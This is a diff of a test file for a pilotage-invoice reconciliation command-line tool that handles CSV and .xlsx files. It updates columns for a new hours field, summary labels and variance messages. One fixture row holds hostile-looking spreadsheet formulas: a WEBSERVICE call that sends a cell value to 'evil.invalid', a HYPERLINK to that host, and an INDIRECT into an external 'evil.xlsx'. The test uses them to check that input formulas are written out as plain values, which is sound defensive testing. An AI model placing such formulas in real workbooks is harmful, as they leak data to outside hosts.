@@ -173,6 +173,7 @@ describe("hudson-pilotage reconcile, CSV in and out", () => {
       rowsChecked: 200,
       rowsExcluded: 0,
       excludedRowNumbers: [],
+      excludedRows: [],
       rowsNotChecked: 0,
       rowsWithInputErrors: 0,
       rowsFlagged: 12,
@@ -209,7 +210,7 @@ describe("hudson-pilotage reconcile, CSV in and out", () => {
     });
     // i = 24: 124 units, Section 1, 12 h: 124 × $15.32 = $1,899.68; 124 × $3.60 = $446.40; second pilot 50% × $1,899.68 = $949.84;
     // fees $345.50 → $3,641.42, billed $3,651.42.
-    expect(data[24].slice(5)).toEqual(["3651.42", "1899.68", "446.40", "949.84", "345.50", "3641.42", "10.00", "TRUE", "variance", "Total billed $3,651.42, computed $3,641.42: $10.00 over.", String(invoices.rowNumberOf[24])]);
+    expect(data[24].slice(5)).toEqual(["3651.42", "1899.68", "446.40", "949.84", "345.50", "3641.42", "10.00", "TRUE", "variance", "Total billed $3,651.42, computed $3,641.42: $10.00 over. Assumed no relief at mid-river and no anchorage of 8 hours (the table has no column for them).", String(invoices.rowNumberOf[24])]);
     // i = 39: 139 units, Section 2, 12 h: 139 × $21.58 = $2,999.62; second pilot $1,499.81; 139 × $3.60 = $500.40; fees $470.50 → $5,470.33; billed a cent under.
     expect(data[39].slice(5, 13)).toEqual(["5470.32", "2999.62", "500.40", "1499.81", "470.50", "5470.33", "-0.01", "TRUE"]);
     // Formula-like vessel names get a leading apostrophe; the original numbers are written as they were.
@@ -220,17 +221,17 @@ describe("hudson-pilotage reconcile, CSV in and out", () => {
   });
 
   test("all matched: exit 0; the summary in words", () => {
-    const lines = ["Ship,PU,Section,Date,Billed"];
-    // 40 units S1: $1,070.58 + $300.00 + $345.50 = $1,716.08. 271.43 units S2: $5,857.46 + $977.15 + $470.50 = $7,305.11.
-    lines.push("A,40,1,2026-03-01,1716.08", "B,271.43,2,2026-09-30,\"7,305.11\"");
+    const lines = ["Ship,PU,Section,Date,Hrs,Billed"];
+    // One pilot (6 h, 9 h): 40 units S1: $1,070.58 + $300.00 + $345.50 = $1,716.08. 271.43 units S2: $5,857.46 + $977.15 + $470.50 = $7,305.11.
+    lines.push("A,40,1,2026-03-01,6,1716.08", "B,271.43,2,2026-09-30,9,\"7,305.11\"");
     fs.writeFileSync(inFolder("ok.csv"), lines.join("\n"));
     fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
     const out = run("reconcile", "ok.csv", "--board-rates", "rates.csv");
     expect(out.stderr).toBe("");
     expect(out.code).toBe(0);
-    expect(out.stdout).toContain('Columns: vessel ← column A "Ship"; pilotage units ← column B "PU"; section ← column C "Section"; transit date ← column D "Date"; billed total ← column E "Billed"');
+    expect(out.stdout).toContain('Columns: vessel ← column A "Ship"; pilotage units ← column B "PU"; section ← column C "Section"; transit date ← column D "Date"; continuous pilotage hours ← column E "Hrs"; billed total ← column F "Billed"');
     expect(out.stdout).toMatch(/^Rows: +2$/m);
-    expect(out.stdout).toMatch(/^Billed: +\$9,021\.19$/m);
+    expect(out.stdout).toMatch(/^Billed: +\$9,021\.19 \(rows matched or flagged\)$/m);
     expect(out.stdout).toMatch(/^Variance: +\$0\.00 /m);
     expect(out.stdout).toMatch(/^Rows flagged: +0$/m);
     expect(out.stdout).toMatch(/^Rows matched: +2$/m);
@@ -238,13 +239,13 @@ describe("hudson-pilotage reconcile, CSV in and out", () => {
   });
 
   test("without -o the flagged rows are listed; --map names an unguessable column", () => {
-    fs.writeFileSync(inFolder("in.csv"), ["Ship,PU,Section,Sailed,Pilot bill", "A,40,1,2026-03-01,1726.08", "B,40,1,2026-03-01,1716.08"].join("\n"));
+    fs.writeFileSync(inFolder("in.csv"), ["Ship,PU,Section,Sailed,Hours,Pilot bill", "A,40,1,2026-03-01,5,1726.08", "B,40,1,2026-03-01,5,1716.08"].join("\n"));
     fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
     expect(run("reconcile", "in.csv", "--board-rates", "rates.csv").stderr).toBe(
       // "Sailed" is a date header of the trade; "Pilot bill" is no known header, but its values are amounts: the message names the --map.
-      'hudson-pilotage reconcile: No column found for a billed amount (billed total, or billed base pilotage, surcharge, …). The columns are A "Ship", B "PU", C "Section", D "Sailed", E "Pilot bill": map them as column=field. Columns holding amounts: column E "Pilot bill" (--map "Pilot bill=billed_total").\n',
+      'hudson-pilotage reconcile: No column found for a billed amount (billed total, or billed base pilotage, surcharge, …). The columns are A "Ship", B "PU", C "Section", D "Sailed", E "Hours", F "Pilot bill": map them as column=field. Columns holding amounts: column F "Pilot bill" (--map "Pilot bill=billed_total").\n',
     );
-    const out = run("reconcile", "in.csv", "--board-rates", "rates.csv", "--map", "Sailed=date", "--map", "E=billed_total");
+    const out = run("reconcile", "in.csv", "--board-rates", "rates.csv", "--map", "Sailed=date", "--map", "F=billed_total");
     expect(out.code).toBe(1);
     expect(out.stdout).toContain("Rows flagged or not checked (vessel, date, variance billed − computed, what differs):\n  row 2  A  2026-03-01  $10.00 over  Total billed $1,726.08, computed $1,716.08: $10.00 over.\n");
     expect(out.stdout).not.toContain("row 3");
@@ -258,7 +259,8 @@ describe("hudson-pilotage reconcile, CSV in and out", () => {
     const json = JSON.parse(out.stdout);
     expect(json.summary).toMatchObject({ rowsRead: 2, rowsChecked: 0, rowsNotChecked: 2, rowsWithInputErrors: 1, rowsFlagged: 0, rowsMatched: 0, billed: "0.00" });
     const rows = await csvRows(inFolder("out.csv"));
-    expect(rows[1].slice(5, 13)).toEqual(["1070.58", "#N/A", "0.00", "#N/A", "#N/A", "#N/A", "not computed", "not checked: an amount is not available (#N/A), see Note"]);
+    // No hours column: the second pilot is not checked (D26), never $0.00.
+    expect(rows[1].slice(5, 13)).toEqual(["1070.58", "#N/A", "#N/A", "#N/A", "#N/A", "#N/A", "not computed", "not checked: an amount is not available (#N/A), see Note"]);
     expect(rows[1][13]).toMatch(/^Total not checked: Not entered for 2026-03-01: surcharge, launch fee, communication fee\./);
     expect(rows[2].slice(11, 13)).toEqual(["not computed", "not checked: not computed (an input cannot be read, or the NYPILOT add-in is not loaded), see Note"]);
     expect(rows[2][13]).toMatch(/^Total not checked: The section is "9"/);
@@ -337,7 +339,7 @@ describe("hudson-pilotage reconcile, .xlsx in and out", () => {
     expect(["Q3", "S3", "U3", "V3", "AB3", "AE3", "AF3", "AG3"].map(cached)).toEqual([2943.89, 1471.95, 5453.12, 300, 10, -1461.95, true, "variance"]);
     expect(cached("AH3")).toBe(
       "Second pilot billed $0.00, computed $1,471.95: $1,471.95 under. Launch fee billed $310.00, computed $300.00: $10.00 over. " +
-        "Total billed $3,991.17, computed $5,453.12: $1,461.95 under.",
+        "Total billed $3,991.17, computed $5,453.12: $1,461.95 under. Assumed no anchorage of 8 hours (the table has no column for it).",
     );
     expect(["Q4", "X4", "AE4", "AF4"].map(cached)).toEqual([1764.76, 125, 0, false]);
     // Not checked, never flagged: the Flag says "not computed", the Status why, by the kind of error.
@@ -356,10 +358,12 @@ describe("hudson-pilotage reconcile, .xlsx in and out", () => {
     const items = new Map<string, unknown>();
     // cell.result, not cell.value.result: exceljs's value getter drops a cached 0 or FALSE.
     summarySheet.eachRow((row) => items.set(String(row.getCell(1).value), row.getCell(2).formula ? row.getCell(2).result : row.getCell(2).value));
-    expect([items.get("Rows read"), items.get("Rows checked"), items.get("Rows not checked"), items.get("Rows flagged"), items.get("Rows matched")]).toEqual([6, 4, 2, 1, 3]);
-    // As the JSON summary: 15,625.01 − 17,086.96.
-    expect(items.get("Variance (billed − computed)")).toBe(-1461.95);
-    expect(summarySheet.getCell("B13").formula).toBe("COUNTIF('Reconciliation'!$AF$2:$AF$7,TRUE)");
+    expect([items.get("Rows read"), items.get("Rows not checked"), items.get("Rows flagged"), items.get("Rows matched")]).toEqual([6, 2, 1, 3]);
+    expect(items.get("Rows read = matched + flagged + not checked + excluded")).toBe(6);
+    // As the JSON summary: the one flagged row's variance, $3,991.17 − $5,453.12.
+    expect(items.get("Variance (the flagged rows' variances)")).toBe(-1461.95);
+    const flaggedRow = summarySheet.getColumn(1).values.findIndex((label) => label === "Rows flagged");
+    expect(summarySheet.getCell(`B${flaggedRow}`).formula).toBe("COUNTIF('Reconciliation'!$AF$2:$AF$7,TRUE)");
     // The paths as given (the run's folder) and in full.
     expect([items.get("Input"), items.get("Input (full path)")]).toEqual(["invoices.xlsx", path.resolve(inFolder("invoices.xlsx"))]);
     expect([items.get("Board rates"), items.get("Board rates (full path)")]).toEqual(["rates.csv", path.resolve(inFolder("rates.csv"))]);
@@ -436,7 +440,7 @@ describe("hudson-pilotage reconcile, .xlsx in and out", () => {
       live.hf.setCellContents({ sheet, row: 2, col: 11 }, 300);
       live.hf.setCellContents({ sheet, row: 2, col: 14 }, 5453.12);
       expect(live.value("Reconciliation!AG3")).toBe("matched");
-      expect([summaryValue(live, "Rows flagged"), summaryValue(live, "Rows matched"), summaryValue(live, "Variance (billed − computed)")]).toEqual([0, 4, 0]);
+      expect([summaryValue(live, "Rows flagged"), summaryValue(live, "Rows matched"), summaryValue(live, "Variance (the flagged rows' variances)")]).toEqual([0, 4, 0]);
     } finally {
       live.destroy();
     }
@@ -449,7 +453,9 @@ describe("hudson-pilotage reconcile, .xlsx in and out", () => {
           row, "not computed", "not checked: not computed (an input cannot be read, or the NYPILOT add-in is not loaded), see Note",
         ]);
       }
-      expect([summaryValue(without, "Rows flagged"), summaryValue(without, "Rows checked"), summaryValue(without, "Rows matched")]).toEqual([0, 0, 0]);
+      // Six rows, none flagged or matched: all six not checked, and the count still adds up to the rows read.
+      expect([summaryValue(without, "Rows flagged"), summaryValue(without, "Rows not checked"), summaryValue(without, "Rows matched")]).toEqual([0, 6, 0]);
+      expect(summaryValue(without, "Rows read = matched + flagged + not checked + excluded")).toBe(6);
     } finally {
       without.destroy();
     }
@@ -474,11 +480,11 @@ describe("hudson-pilotage reconcile, an .xlsx input's own formulas and layout", 
   test("the input's formulas are copied as their values, never as formulas (WEBSERVICE, HYPERLINK, INDIRECT to another book); rows keep their numbers across an empty row", async () => {
     const workbook = new ExcelJS.Workbook();
     const sheet = workbook.addWorksheet("Calls");
-    sheet.addRow(["Units", "Section", "Date", "Base", "Surcharge", "Billed", "Link", "Lookup"]);
-    // 40 units, Section 1, 2026: base $1,070.58, surcharge (0–50 band) $300.00 — billed as their sum by a formula.
-    sheet.addRow([40, 1, "2026-03-01", 1070.58, 300, { formula: "D2+E2", result: 1370.58 }, { formula: 'HYPERLINK("http://evil.invalid","x")', result: "x" }, { formula: 'WEBSERVICE("http://evil.invalid/?"&A2)', result: "ok" }]);
+    sheet.addRow(["Units", "Section", "Date", "Base", "Surcharge", "Billed", "Link", "Lookup", "Hours"]);
+    // 40 units, Section 1, 2026, 6 h: base $1,070.58, surcharge (0–50 band) $300.00 — billed as their sum by a formula.
+    sheet.addRow([40, 1, "2026-03-01", 1070.58, 300, { formula: "D2+E2", result: 1370.58 }, { formula: 'HYPERLINK("http://evil.invalid","x")', result: "x" }, { formula: 'WEBSERVICE("http://evil.invalid/?"&A2)', result: "ok" }, 6]);
     sheet.addRow([]);
-    sheet.addRow([40, 1, "2026-03-01", 1070.58, 300, { formula: "D4+E4", result: 1370.58 }, null, { formula: `INDIRECT("'[evil.xlsx]S'"&CHAR(33)&"A1")`, result: 7 }]);
+    sheet.addRow([40, 1, "2026-03-01", 1070.58, 300, { formula: "D4+E4", result: 1370.58 }, null, { formula: `INDIRECT("'[evil.xlsx]S'"&CHAR(33)&"A1")`, result: 7 }, 6]);
     await workbook.xlsx.writeFile(inFolder("calls.xlsx"));
     fs.writeFileSync(inFolder("rates.csv"), BOARD_RATES);
     const out = run("reconcile", "calls.xlsx", "-o", "checked.xlsx", "--board-rates", "rates.csv", "--map", "Billed=ignore", "--map", "Link=ignore", "--map", "Lookup=ignore", "--json");
@@ -491,7 +497,7 @@ describe("hudson-pilotage reconcile, an .xlsx input's own formulas and layout", 
     expect([result.getCell("F2").value, result.getCell("G2").value, result.getCell("H2").value, result.getCell("H4").value]).toEqual([1370.58, "x", "ok", 7]);
     expect(result.getCell("A3").value).toBeNull();
     // The computed base of row 4 refers to row 4's own cells.
-    expect(result.getCell("I4").formula).toBe("NYPILOT.HUDSON_BASE_FEE(A4,B4,C4)");
+    expect(result.getCell("J4").formula).toBe("NYPILOT.HUDSON_BASE_FEE(A4,B4,C4)");
   });
 });
 
